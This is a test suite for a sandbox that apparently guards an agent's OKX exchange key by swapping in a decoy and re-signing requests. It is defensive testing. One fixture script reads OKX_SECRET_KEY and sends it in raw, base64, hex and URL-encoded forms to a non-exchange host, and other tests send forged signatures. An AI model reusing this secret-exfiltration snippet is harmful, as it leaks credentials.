// S5: the agent gets no signature over bytes of its choosing, and a secret goes nowhere but where it belongs.
import { describe, expect, test } from 'vitest';
import { startBox } from '../support/box.js';
import { useOpenHost } from '../support/open-host.js';
import { type Answer, okxCall, runNode, useDesk } from '../support/paper-desk.js';
import { boxSkipReason, suiteLevel } from '../support/requirements.js';

/** Sends a text to a host that is none of its own, in four encodings; prints the statuses. */
const decoyElsewhere = `
const decoy = process.argv[1] ?? process.env.OKX_SECRET_KEY;
const forms = [decoy, Buffer.from(decoy).toString('base64'), Buffer.from(decoy).toString('hex'), encodeURIComponent(decoy)];
Promise.all(forms.map((form) => fetch('https://echo.tradebox.internal/', { headers: { 'x-note': form } }).then((a) => a.status, () => 0)))
  .then((all) => console.log(JSON.stringify(all)));`;

describe.skipIf(boxSkipReason('openssl'))('S5', () => {
  const open = useOpenHost();
  const desk = useDesk('s05', {}, (home) => open.config(home));

  test('a request signed with the decoy arrives signed with the real key (the exchange checks it)', async () => {
    const answer = await okxCall(desk, 'GET', '/api/v5/account/balance');
    expect(JSON.parse(answer.body)).toMatchObject({ code: '0' });
  });

  test('C2: a forged signature is refused, and taints', async () => {
    expect((await okxCall(desk, 'GET', '/api/v5/account/balance', { forged: true })).status).toBe(403);
    const taints = (await desk.box.journal()).filter(({ event }) => event.type === 'taint');
    expect(taints.map(({ event }) => event.cause)).toContain('forged-signature');
  });

  test('control: a host whose signatures nobody checks is sent the forged one', async () => {
    const forged = await okxCall(desk, 'GET', '/api/v5/account/balance', { forged: true, host: open.host });
    expect([forged.status, open.taken]).toEqual([200, ['GET /api/v5/account/balance']]);
  });

  test('B1: the decoy at another host is refused, in any encoding, and taints', async () => {
    for (const status of await runNode<number[]>(desk, decoyElsewhere)) expect(status).toBe(403);
    const taints = (await desk.box.journal()).filter(({ event }) => event.type === 'taint');
    expect(taints.map(({ event }) => event.cause)).toContain('decoy-misuse');
  });

  test('control: in a box that does not know it for a decoy the same text passes in each encoding', async () => {
    const decoy = (await desk.box.sh('printf %s "$OKX_SECRET_KEY"')).stdout;
    const options = ['--paper', '--mode', 'readonly', '--isolation', suiteLevel()];
    const workdir = desk.home.workdir();
    const stranger = await startBox(desk.home, {
      profile: 'sh',
      workdir,
      hint: 's05b',
      options,
      args: ['-c', 'sleep 3600'],
    });
    const there = { ...desk, box: stranger, workdir };
    expect(await runNode<number[]>(there, decoyElsewhere, decoy)).toEqual([200, 200, 200, 200]);
  });

  test('B7: an unknown key is refused, never sent as it is', async () => {
    const program = `fetch('https://echo.tradebox.internal/', { headers: { authorization: 'Bearer unknown-key' } }).then(async (a) => console.log(JSON.stringify({ status: a.status, body: await a.text() })))`;
    const answer = await runNode<Answer>(desk, program);
    expect(answer.status).toBe(403);
  });

  test('B6: plain HTTP is refused', async () => {
    const plain = await desk.box.sh(
      `curl -sS -m 10 -o /dev/null -w '%{http_code}' --noproxy '*' http://www.okx.com/api/v5/public/time`,
    );
    expect(plain.stdout).toBe('403');
  });
});
